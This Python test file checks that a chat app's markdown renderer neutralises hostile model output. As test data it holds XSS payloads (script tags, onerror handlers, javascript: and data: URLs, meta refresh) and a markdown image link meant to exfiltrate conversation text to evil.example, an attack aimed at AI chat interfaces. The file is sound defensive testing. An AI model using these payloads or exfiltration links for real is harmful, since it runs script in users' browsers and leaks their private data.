"""Model output is untrusted: whatever an answer says, the HTML we make of it runs no script,
loads nothing from elsewhere by itself, and sends readers to links only in a new tab."""

import re

import pytest
from bs4 import BeautifulSoup

from apps.chat.markdown import GrowingMarkdown, render_markdown, sanitize

EXFIL = "https://evil.example/collect?d=the+secret+conversation"


def soup(text: str) -> BeautifulSoup:
    return BeautifulSoup(render_markdown(text), "html.parser")


def no_active_content(html: str) -> None:
    """Nothing in `html` can run script or fetch anything on its own."""
    tree = BeautifulSoup(html, "html.parser")
    for tag in tree.find_all(True):
        assert tag.name not in ("script", "img", "iframe", "object", "embed", "style", "svg")
        assert tag.name not in ("form", "input", "meta", "link", "base", "math")
        for name, value in tag.attrs.items():
            assert not name.startswith("on"), (tag, name)
            assert name not in ("src", "srcset", "style") or tag.name in ("th", "td"), (tag, name)
            joined = " ".join(value) if isinstance(value, list) else value
            assert not re.match(r"\s*(javascript|vbscript|data):", joined, re.I), (tag, name)


def test_ordinary_markdown_renders():
    tree = soup("# Title\n\nSome **bold** and *soft* text.\n\n- one\n- two\n\n1. first\n")
    assert tree.h1.get_text() == "Title"
    assert tree.strong.get_text() == "bold" and tree.em.get_text() == "soft"
    assert [li.get_text() for li in tree.ul.find_all("li")] == ["one", "two"]
    assert tree.ol is not None


def test_tables_and_strikethrough_render():
    tree = soup("| a | b |\n|:-|-:|\n| 1 | 2 |\n\n~~gone~~")
    assert [th.get_text() for th in tree.find_all("th")] == ["a", "b"]
    assert tree.find("td")["style"] == "text-align:left"
    assert tree.s.get_text() == "gone"


def test_links_open_in_a_new_tab_and_pass_nothing_on():
    link = soup("See [the docs](https://docs.example/page?x=1).").a
    assert link["href"] == "https://docs.example/page?x=1"
    assert link["target"] == "_blank"
    assert set(link["rel"]) == {"noopener", "noreferrer", "nofollow"}


@pytest.mark.parametrize(
    "text",
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        '<a href="javascript:alert(1)" onclick="alert(2)">x</a>',
        "<iframe src=https://evil.example></iframe>",
        "<svg onload=alert(1)></svg>",
        "<style>body{display:none}</style>",
        '<div style="background:url(https://evil.example/x)">x</div>',
        "<<script>script>alert(1)<</script>/script>",
        "<scr<script>ipt>alert(1)</script>",
        "<!-- <script>alert(1)</script> -->",
        '<form action="https://evil.example"><input name=x></form>',
        '<meta http-equiv="refresh" content="0;url=https://evil.example">',
        "<base href=https://evil.example/>",
    ],
    ids=[
        "script",
        "img-onerror",
        "a-javascript-onclick",
        "iframe",
        "svg-onload",
        "style-tag",
        "style-attribute",
        "nested-script",
        "split-script",
        "comment",
        "form",
        "meta-refresh",
        "base",
    ],
)
def test_raw_html_in_an_answer_shows_as_text(text):
    html = render_markdown(text)
    no_active_content(html)
    assert "&lt;" in html  # the reader sees what the model wrote, as text


@pytest.mark.parametrize(
    "text",
    [
        "[click](javascript:alert(1))",
        "[click](JaVaScRiPt:alert(1))",
        "[click](  javascript:alert(1))",
        "[click](java\tscript:alert(1))",
        "[click](&#106;avascript:alert(1))",
        "[click](vbscript:msgbox(1))",
        "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
        "[click](file:///etc/passwd)",
        "<javascript:alert(1)>",
        '[t](https://ok.example "x\\" onmouseover=\\"alert(1)")',
    ],
    ids=[
        "javascript",
        "mixed-case",
        "leading-space",
        "tab-inside",
        "entity",
        "vbscript",
        "data-url",
        "file-url",
        "autolink",
        "title-breakout",
    ],
)
def test_dangerous_links_are_not_links(text):
    html = render_markdown(text)
    no_active_content(html)
    for link in BeautifulSoup(html, "html.parser").find_all("a"):
        assert link["href"].startswith(("http://", "https://", "mailto:", "#")), link


def test_an_external_image_is_a_button_not_a_fetch():
    html = render_markdown(f"Here you go: ![chart]({EXFIL})")
    no_active_content(html)
    tree = BeautifulSoup(html, "html.parser")
    assert tree.find("img") is None
    button = tree.find("button", class_="md-image")
    assert button["data-image-src"] == EXFIL
    assert button.get_text() == "Load image from evil.example: chart"
    # The URL never sits where a browser would fetch it unasked.
    assert f'src="{EXFIL}' not in html.replace("data-image-src", "")


@pytest.mark.parametrize(
    "text",
    [
        "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
        "![x](javascript:alert(1))",
        "![x](/relative/path.png)",
        '<img src="https://evil.example/p.png">',
        "[![x](https://evil.example/p.png)](https://evil.example/)",
        '![a" onerror="alert(1)](https://evil.example/x.png)',
    ],
    ids=["data-svg", "javascript", "relative", "raw-img", "image-in-link", "alt-breakout"],
)
def test_no_image_is_ever_loaded_automatically(text):
    html = render_markdown(text)
    no_active_content(html)
    for button in BeautifulSoup(html, "html.parser").find_all("button", class_="md-image"):
        assert button["data-image-src"].startswith(("https://", "http://"))


def test_code_blocks_are_escaped_monospace_and_copyable():
    tree = soup('```python\nprint("<script>alert(1)</script>")\n```')
    block = tree.find("div", class_="md-code")
    assert block.find("button", attrs={"data-copy-code": True}).get_text() == "Copy"
    code = block.pre.code
    assert code["class"] == ["language-python"]
    assert code.get_text() == 'print("<script>alert(1)</script>")\n'  # shown, not run
    assert tree.find("script") is None


def test_a_hostile_code_language_cannot_add_attributes():
    html = render_markdown('```" onmouseover="alert(1)\ncode\n```')
    no_active_content(html)
    assert BeautifulSoup(html, "html.parser").code.get("class") is None


def test_inline_code_is_escaped():
    tree = soup("Use `<b>bold</b>` tags")
    assert tree.code.get_text() == "<b>bold</b>"
    assert tree.find("b") is None


def test_sanitize_drops_what_the_allow_list_does_not_name():
    html = sanitize(
        '<p class="evil" id="x">a</p><button onclick="x()" data-image-src="javascript:x">b</button>'
        '<span class="md-ok other">c</span>'
    )
    assert html == "<p>a</p><button>b</button><span>c</span>"


def test_empty_answer_renders_nothing():
    assert render_markdown("") == ""


# --- A growing answer, frame after frame ------------------------------------------------


def _frames(text: str, step: int = 7) -> list[str]:
    growing = GrowingMarkdown()
    return [growing.render(text[:end]) for end in range(step, len(text) + step, step)]


def test_a_growing_answer_ends_as_the_whole_render():
    text = "# Plan\n\nFirst **bold** paragraph.\n\nSecond one, with `code`.\n\n> quoted\n"
    frames = _frames(text)
    assert frames[-1] == render_markdown(text)
    assert all("<h1>Plan</h1>" in frame for frame in frames[2:])


def test_a_code_fence_with_blank_lines_stays_one_block_while_it_grows():
    text = "Look:\n\n```python\ndef f():\n\n    return 1\n\n\n```\n\nDone.\n"
    for frame in _frames(text, step=3):
        assert frame.count("<pre") <= 1, frame
    assert _frames(text)[-1] == render_markdown(text)


def test_every_frame_of_a_growing_answer_is_sanitised():
    text = "Fine start.\n\n<script>alert(1)</script>\n\n[x](javascript:alert(1)) ![i](http://evil/p.png)\n"
    for frame in _frames(text, step=2):
        no_active_content(frame)
        assert "<script" not in frame
